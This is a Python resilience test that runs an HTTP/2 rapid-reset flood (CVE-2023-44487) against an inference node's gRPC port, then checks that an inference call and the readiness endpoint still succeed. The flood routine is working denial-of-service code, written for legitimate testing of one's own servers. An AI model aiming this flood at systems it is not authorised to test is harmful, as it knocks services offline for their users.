#!/usr/bin/env python3
"""An HTTP/2 rapid-reset flood (CVE-2023-44487) against the node's gRPC port: connections that
open streams (a ModelInfer call's headers) and reset each at once, as fast as they can, for a
bounded number of streams. Afterwards the node must still answer a real gRPC call and HTTP
readiness. Prints how many streams were opened and reset, and "rapid reset: ok".

usage: grpc_rapid_reset_test.py GRPC_HOST:PORT HTTP_HOST:PORT [STREAMS]
"""
import socket
import sys
import time
import urllib.request

import h2.config
import h2.connection
import h2.errors
import numpy as np
import tritonclient.grpc as grpcclient


def flood(host, port, streams):
    sent = 0
    conns = 0
    deadline = time.time() + 60
    while sent < streams and time.time() < deadline:
        s = socket.create_connection((host, port), timeout=10)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        s.sendall(conn.data_to_send())
        conns += 1
        try:
            for _ in range(min(5000, streams - sent)):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"),
                                        (":path", "/inference.GRPCInferenceService/ModelInfer"),
                                        (":authority", f"{host}:{port}"),
                                        ("content-type", "application/grpc"), ("te", "trailers")])
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
                data = conn.data_to_send()
                if data:
                    s.sendall(data)
        except (OSError, h2.exceptions.ProtocolError):
            pass  # the server may end the connection (GOAWAY): a new one goes on
        s.close()
    return sent, conns


def main():
    grpc_addr, http_addr = sys.argv[1], sys.argv[2]
    streams = int(sys.argv[3]) if len(sys.argv) > 3 else 50000
    host, port = grpc_addr.rsplit(":", 1)
    t0 = time.time()
    sent, conns = flood(host, int(port), streams)
    print(f"flood: {sent} streams opened and reset on {conns} connection(s) in {time.time() - t0:.1f} s")
    # The node still serves.
    client = grpcclient.InferenceServerClient(grpc_addr)
    x = grpcclient.InferInput("x", [1, 4], "FP32")
    x.set_data_from_numpy(np.array([[1, 2, 3, 4]], dtype=np.float32))
    out = client.infer("scale", [x]).as_numpy("y")
    assert out.tolist() == [[3, 5, 7, 9]], out
    assert urllib.request.urlopen(f"http://{http_addr}/v2/health/ready", timeout=10).status == 200
    print("rapid reset: ok")


if __name__ == "__main__":
    main()
